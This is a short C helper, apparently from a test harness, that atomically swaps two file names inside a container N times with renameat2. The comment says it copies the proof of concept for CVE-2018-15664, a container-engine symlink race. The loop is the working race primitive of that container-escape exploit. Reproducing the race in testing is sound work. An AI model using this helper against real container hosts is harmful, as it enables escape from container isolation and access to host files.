/* Race attempts' helper, run inside a container: swap two names atomically, over and over.
 * swapper A B N: renameat2(A, B, RENAME_EXCHANGE) N times (bounded), as CVE-2018-15664's PoC.
 * A failed swap (a name missing for a moment: the engine replaces it) is tried again. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swapper A B N\n");
        return 2;
    }
    long n = atol(argv[3]);
    for (long i = 0; i < n; i++) {
        syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
    }
    return 0;
}
